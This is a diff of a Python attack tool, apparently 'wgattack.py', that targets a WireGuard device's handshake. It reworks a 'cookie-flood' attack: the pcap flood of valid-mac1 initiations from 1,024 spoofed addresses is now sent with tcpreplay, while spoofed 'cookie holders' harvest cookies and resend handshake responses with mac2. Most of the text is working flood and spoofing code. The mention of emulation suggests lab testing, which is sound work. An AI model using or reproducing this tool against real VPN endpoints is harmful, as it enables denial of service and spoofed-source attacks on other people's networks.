@@ -41,18 +41,18 @@ heard, 0 otherwise, 2 on a usage or set-up error.
       replay-data      the captured data messages resent (twice each)
   wgattack.py flood-pcap --src-mac MAC --dst-mac MAC --target ADDR --port PORT
               --pub B64 --out FILE
-      writes the flood of cookie-flood (1) below as a pcap file, for a
-      faster sender (tcpreplay --topspeed --loop=0: under emulation this
-      process alone sends about 800 a second, which never held a device
-      under load)
+      writes the flood of cookie-flood below as a pcap file, for a fast
+      sender (tcpreplay --topspeed --loop=0 --preload-pcap: under emulation
+      this Python process sent about 800 a second, which never held a
+      device under load)
   wgattack.py cookie-flood --ifname IF --src-mac MAC --dst-mac MAC --target ADDR
               --port PORT --pub B64 --holders N --seconds S [--ready FILE]
-              [--stop FILE] [--summary FILE] [--min-cookies N] [--no-flood 1]
-      the handshake path under attack (IPv4), from one process, until
-      --seconds pass or the file --stop appears: (1) a flood of initiations
-      with a valid mac1 from 1,024 spoofed sources in 10.200.0.0/16, which
-      keeps the device under load (not with --no-flood, when another
-      process sends it: flood-pcap); (2) N "cookie holders" in 10.201.0.0/16
+              [--stop FILE] [--summary FILE] [--min-cookies N]
+      the cookie holders of the handshake path under attack (IPv4), until
+      --seconds pass or the file --stop appears, while another process
+      sends the flood of flood-pcap (initiations with a valid mac1 from
+      1,024 spoofed sources in 10.200.0.0/16), which keeps the device under
+      load: N "cookie holders" in 10.201.0.0/16
       (the device must route that prefix back to IF: the holders never own
       their addresses, a sniffer on IF reads their cookie replies): each
       sends a handshake response with a valid mac1, reads the cookie the
@@ -818,7 +818,6 @@ def cookie_flood(args):
     min_cookies = int(args.min_cookies) if args.min_cookies is not None else n
     if n > 250 * 250 or min_cookies > n:
         usage("--holders at most 62500, --min-cookies at most --holders")
-    flood = [] if args.no_flood else flood_frames(mac1_key, smac, dmac, target, port)
     # The holders: handshake responses (sender index 0x20000000 + i, a
     # random receiver index the device never gave), with their mac1; the
     # frame with the mac2 replaces the first once the cookie is known.
@@ -836,7 +835,7 @@ def cookie_flood(args):
     sniff = packet_socket(args.ifname)
     sniff.setblocking(False)
     send = inject.send
-    st = {"flood_sent": 0, "holder_sent": 0, "holder_mac2_sent": 0, "cookie_replies": 0, "bad_cookie_replies": 0,
+    st = {"holder_sent": 0, "holder_mac2_sent": 0, "cookie_replies": 0, "bad_cookie_replies": 0,
           "cookies": 0, "rounds": 0, "sniffed": 0}
     t0 = time.monotonic()
     end = t0 + float(args.seconds)
@@ -873,18 +872,10 @@ def cookie_flood(args):
             full = msg + mac16(cookie, msg)
             frames[i] = udp_frame(smac, dmac, addrs[i], 30000 + i % 20000, target, port, full, ident=i)
 
-    fi = 0
     while time.monotonic() < end and not (args.stop and os.path.exists(args.stop)):
         st["rounds"] += 1
         for start in range(0, n, 64):
-            # 64 flood frames, then 64 holders, then what came back.
-            for fr in flood[fi:fi + 64]:
-                try:
-                    send(fr)
-                    st["flood_sent"] += 1
-                except OSError:
-                    pass
-            fi = (fi + 64) % max(len(flood), 1)
+            # 64 holders, then what came back.
             for i in range(start, min(start + 64, n)):
                 try:
                     send(frames[i])
@@ -897,10 +888,9 @@ def cookie_flood(args):
                     st["holder_sent"] += 1
             drain()
         print("cookie-flood: round %d at %.1f s: %d cookies, %d cookie replies (%d bad), %d frames sniffed, "
-              "%d flood and %d holder messages sent" % (
+              "%d holder messages sent" % (
                   st["rounds"], time.monotonic() - t0, st["cookies"], st["cookie_replies"],
-                  st["bad_cookie_replies"], st["sniffed"], st["flood_sent"],
-                  st["holder_sent"] + st["holder_mac2_sent"]))
+                  st["bad_cookie_replies"], st["sniffed"], st["holder_sent"] + st["holder_mac2_sent"]))
         sys.stdout.flush()
         if not ready and st["cookies"] >= min_cookies and sum(mac2_sent) >= min_cookies:
             ready = True
@@ -976,7 +966,7 @@ def main(argv=None):
         return 0
     if cmd == "cookie-flood":
         args = Args(rest, ("ifname", "src_mac", "dst_mac", "target", "port", "pub", "holders", "seconds", "ready",
-                           "stop", "summary", "min_cookies", "no_flood"))
+                           "stop", "summary", "min_cookies"))
         for k in ("ifname", "src_mac", "dst_mac", "target", "port", "pub", "holders", "seconds"):
             if getattr(args, k) is None:
                 usage("cookie-flood needs --%s" % k.replace("_", "-"))
